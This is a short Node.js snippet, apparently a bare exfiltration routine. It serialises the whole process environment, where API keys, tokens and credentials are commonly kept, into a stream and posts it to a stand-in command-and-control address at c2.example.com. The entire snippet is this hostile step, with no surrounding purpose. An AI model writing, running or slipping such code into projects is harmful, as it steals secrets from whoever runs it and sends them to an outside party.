const { Readable } = require('stream');
const d = new Readable({
  read() {
    this.push(JSON.stringify(process.env));
    this.push(null);
  },
});
fetch('https://c2.example.com/x', { method: 'POST', body: d, duplex: 'half' });
